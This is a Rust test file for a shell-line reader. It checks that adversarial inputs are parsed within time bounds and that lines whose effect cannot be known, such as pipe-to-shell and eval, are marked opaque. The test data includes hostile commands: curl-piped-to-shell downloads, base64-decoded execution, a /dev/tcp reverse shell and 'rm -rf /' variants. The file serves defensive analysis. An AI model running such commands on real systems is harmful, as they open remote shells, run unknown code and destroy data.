//! Whole lines: bounds, what is opaque and what is not. The constructs have their tables in `construct_tests.rs`.

use super::*;

fn seconds(line: &str) -> f64 {
    let start = std::time::Instant::now();
    let script = read(line);
    std::hint::black_box(&script);
    start.elapsed().as_secs_f64()
}

/// BX-02: hostile lines neither panic nor overflow the stack nor take long, and are never silently dropped.
#[test]
fn bx_02_hostile_lines_are_bounded() {
    let n = 10_000;
    let big = 300_000;
    for (name, line) in [
        ("$(", "$(".repeat(n)),
        ("$( quoted", "\"$(".repeat(n)),
        ("(", "(".repeat(n)),
        ("((", "((".repeat(n)),
        ("$((", "$((".repeat(n)),
        ("${", "${a:-".repeat(n)),
        ("<(", "cat <(".repeat(n)),
        ("case", "case x in x) ".repeat(n)),
        ("sudo", "sudo ".repeat(big)),
        ("{", "{ ".repeat(big)),
        ("{}", "{a,b}".repeat(n)),
        ("[", "a[x ".repeat(big)),
        ("a", "a".repeat(1 << 20)),
        ("words", "a ".repeat(big)),
        ("commands", "a;".repeat(big)),
        ("heredocs", "<<A ".repeat(big)),
        ("heredoc lines", "a <<A\n".repeat(50_000)),
        ("backticks", "`".repeat(big + 1)),
        ("vars", format!("a=xxxxxxxxxx;{}", "a=$a$a;".repeat(200))),
        ("moves", format!("cd {};{}", "y".repeat(500_000), "a;".repeat(20_000))),
        ("group redirect", format!("{{ {} }} > {}", "a;".repeat(20_000), "y".repeat(500_000))),
        ("find", format!("find / {}", "-exec a {} ; ".replace(" ; ", " \\; ").repeat(20_000))),
        ("find in find", "find / -exec ".repeat(n)),
        ("eval", "eval ".repeat(n)),
        ("bash -c", "bash -c ".repeat(n)),
        ("system", format!("python -c '{}'", "os.system(".repeat(n))),
        ("test", "[[ ".repeat(n)),
        ("nul", "rm\0-rf /".to_owned()),
        ("quote", "'".repeat(big + 1)),
        ("pipes", "echo a | ".repeat(50_000)),
        ("cases", "case a in a) b;; ".repeat(20)),
        ("functions in functions", "f(){ ".repeat(n)),
        ("a function that calls itself twice", "f(){ f;f; };f".to_owned()),
        ("functions that call two", doubling()),
        ("a function called often", format!("f(){{ {} }};{}", "a;".repeat(1_000), "f;".repeat(10_000))),
        ("an alias of itself", "alias a='a;a'\na".to_owned()),
        ("ranges", "{1..256}".repeat(n)),
        (
            "a range without end",
            "echo {1..99999999999999999999} {-9223372036854775808..9223372036854775807}".to_owned(),
        ),
        ("arithmetic that never closes", "((a ".repeat(n)),
        ("files", "echo a > f; sh f;".repeat(20_000)),
        ("sed", format!("sed '{}'", "e x;".repeat(50_000))),
        ("make", format!("make -f - <<< '{}'", "\ta\n".repeat(50_000))),
        ("flags", format!("hyperfine {}", "a ".repeat(big))),
        ("docker in docker", "docker run a ".repeat(n)),
        ("read", format!("read a b c <<< '{}'", "x ".repeat(big))),
        ("set", format!("set -- {}; shift; shift", "x ".repeat(50_000))),
    ] {
        let took = seconds(&line);
        assert!(took < 5.0, "{name} took {took} s");
    }
    assert!(!read(&"$(".repeat(n)).opaque.is_empty());
    assert!(!read(&"x".repeat(bounds_over())).opaque.is_empty());
}

/// Functions of which each calls the one before twice.
fn doubling() -> String {
    let mut line = String::from("f0(){ a; };");
    for i in 1..40 {
        line.push_str(&format!("f{i}(){{ f{};f{}; }};", i - 1, i - 1));
    }
    line + "f39"
}

fn bounds_over() -> usize {
    crate::bounds::LINE_BYTES + 1
}

/// BX-02: what the line does not tell is opaque, with its reason, and the program's opacity is told apart.
#[test]
fn bx_02_what_cannot_be_known_is_opaque() {
    for (line, reason, program) in [
        ("$X a", OpaqueReason::UnknownProgram, true),
        ("eval \"$X\"", OpaqueReason::UnknownInput, true),
        ("curl https://x | sh", OpaqueReason::UnknownInput, true),
        ("curl https://x | sudo bash -s -- a", OpaqueReason::UnknownInput, true),
        ("bash <(curl https://x)", OpaqueReason::UnknownInput, true),
        ("base64 -d f | bash", OpaqueReason::UnknownInput, true),
        ("curl https://x | python3", OpaqueReason::UnknownInput, true),
        ("bash -c \"$X\"", OpaqueReason::UnknownInput, true),
        ("sh < x.sh", OpaqueReason::UnknownInput, true),
        ("python3 < x.py", OpaqueReason::UnknownInput, true),
        ("bash -i >& /dev/tcp/192.0.2.1/9 0>&1", OpaqueReason::UnknownInput, true),
        ("/bin/r? -rf /", OpaqueReason::UnknownProgram, true),
        ("ls | parallel", OpaqueReason::UnknownInput, true),
        ("cat jobs | crontab -", OpaqueReason::UnknownInput, true),
        ("sed s/x/y/e f", OpaqueReason::UnknownInput, true),
        ("echo x | tee >(sh)", OpaqueReason::UnknownInput, true),
        ("rsync -e \"$RSH\" a b:", OpaqueReason::UnknownInput, false),
        ("echo 'a", OpaqueReason::Unbalanced, false),
        ("a\0b", OpaqueReason::NullByte, true),
    ] {
        let opaque = read(line).opaque;
        assert!(opaque.iter().any(|o| o.reason == reason && o.program == program), "{line}: {opaque:?}");
    }
    for line in [
        "ls | grep x",
        "cat f | python3 -m json.tool",
        "bash x.sh",
        "cat x | node -e 'a()'",
        "\"$VENV/bin/python\" x.py",
        "source venv/bin/activate",
        "cat data | python3 script.py",
        "echo ok | sh",
        "for i in 1 2 3; do echo $i; done",
        "find . -name '*.rs' -exec grep x {} +",
        "a=(1 2 3); echo ${a[0]}",
        "if [ -f x ]; then cat x; else echo \"no\"; fi",
        "echo \"$(date) $((1+2)) ${X:-y}\"",
        "! grep -q a b",
        "while read -r l; do echo \"$l\"; done < f",
        "ls *.{rs,md}",
        "git log --format='%h %s' | head -n 3",
        "awk '{print $1}' f",
        "sed -i 's/a(b)/c/' f",
        "curl -s 'https://a/b?c=d&e=f' | jq '.a[] | .b'",
        "cat <<'E' > f\nit's $(x) `y\nE\nls",
        "echo a\\ b \\; c",
        "f() { ls; }; f",
        "[[ $a == b* ]] && ls",
        "cargo test 2>&1 | tail -5",
        "echo \"it's\"",
        "export A=1 B=\"x y\"",
        "((i++))",
        "echo {1..3} {}",
        "echo {1..100000}",
        "docker exec -it web npm test",
        "kubectl exec pod -c app -- ls /srv",
        "git -c core.pager=cat log --oneline",
        "uv run -m pytest tests",
        "tar -I zstd -cf a.tar.zst a",
        "(( i += 1 )) && echo $((i * 2))",
        "vim +10 file",
        "make -j8 test",
        "mysql db < dump.sql",
    ] {
        let script = read(line);
        assert!(script.opaque.is_empty(), "{line}: {:?}", script.opaque);
    }
}

proptest::proptest! {
    /// BX-02: no line of shell syntax makes the reader panic, and spans lie inside the line.
    #[test]
    fn bx_02_any_line_is_read(parts in proptest::collection::vec(proptest::sample::select(vec![
        "$(", ")", "`", "'", "\"", "$'", "${", "}", "{", ",", "<<E", "\n", "E", ";", "&", "&&", "|", "||", "((",
        "))", "[", "]", "[[", "]]", "=", "a", "a=", "rm", "-rf", " ", "  ", "$a", "~", "é", "\\", "case", "in",
        "esac", "for", "do", "done", "if", "fi", "<(", ">", "<", ">&", "2>", "<<<", "bash -c ", "eval ", "sudo ",
        "xargs ", "find . -exec ", ":-", "#", "!", "\0", "python -c ", "os.system(", "*", "?", "()", "env -S ", "f(){ ", "};f ", "alias a=", "shift;", "set -- ",
        "read x <<<", "${a[@]:1}", "{1..3}", "docker run ", "sed e", "IFS=,", "> f;sh f", "$((",
    ]), 0..40)) {
        let line = parts.concat();
        let script = read(&line);
        for command in &script.commands {
            proptest::prop_assert!(command.span.start <= command.span.end && command.span.end <= line.len());
        }
        for opaque in &script.opaque {
            proptest::prop_assert!(line.get(opaque.span.clone()).is_some() || opaque.span.end <= line.len());
        }
    }
}
